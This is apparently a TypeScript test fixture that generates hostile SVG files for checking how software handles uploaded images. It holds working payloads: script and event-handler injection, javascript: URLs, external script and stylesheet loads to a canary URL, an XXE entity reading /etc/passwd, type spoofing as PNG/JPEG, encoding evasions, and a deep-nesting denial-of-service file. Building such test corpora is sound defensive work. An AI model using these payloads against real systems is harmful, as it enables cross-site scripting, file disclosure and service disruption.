import { gzipSync } from 'node:zlib'
import { type Canary, type Hostile, file } from './hostile.ts'

const type = 'image/svg+xml'

/** SVG, which is a picture and a program. */
export function drawings({ url, script }: Canary): Hostile[] {
  const svg = (inside: string, attributes = '') =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90" ${attributes}>${inside}</svg>`
  const acting = svg(`<script>${script}</script>`, `onload="${script}"`)
  const foreign = `<foreignObject width="90" height="90"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:${script}"/><img src="${url}/x" onerror="${script}"/></body></foreignObject>`
  const data = Buffer.from(acting).toString('base64')
  return [
    file('load.svg', type, acting),
    file('drawing.png', 'image/png', acting),
    file('drawing.jpg', 'image/jpeg', `<?xml version="1.0" encoding="utf-8"?>${acting}`),
    file('drawing.svgz', type, gzipSync(acting)),
    file('wide.svg', type, Buffer.from(`\uFEFF${acting}`, 'utf16le')),
    file('source.svg', type, svg(`<script href="${url}/src"/><script xlink:href="${url}/src"/>`)),
    file('foreign.svg', type, svg(foreign)),
    file('image.svg', type, svg(`<image href="${url}/x" onerror="${script}" width="9"/>`)),
    file(
      'use.svg',
      type,
      svg(`<use href="${url}/x#a"/><use href="data:${type};base64,${data}#a"/>`),
    ),
    file(
      'moving.svg',
      type,
      svg(
        `<a><text y="20">x</text><animate attributeName="href" values="javascript:${script}"/></a><animate onbegin="${script}" attributeName="x" dur="1s"/><set attributeName="onclick" to="${script}"/>`,
      ),
    ),
    file(
      'styled.svg',
      type,
      svg(
        `<style>@import url(${url}/import);@font-face{font-family:x;src:url(${url}/font)}text{font-family:x;fill:url(${url}/fill)}</style><text y="20">x</text>`,
      ),
    ),
    file(
      'entity.svg',
      type,
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y "&#60;script>${script}&#60;/script>">]>${svg('<text y="20">&x;</text>&y;')}`,
    ),
    file(
      'filter.svg',
      type,
      svg(
        `<filter id="f"><feImage href="${url}/x"/></filter><rect width="90" height="90" filter="url(#f)" mask="url(${url}/mask)"/>`,
      ),
    ),
    file('depth.svg', type, svg('<g>'.repeat(50_000))),
  ]
}
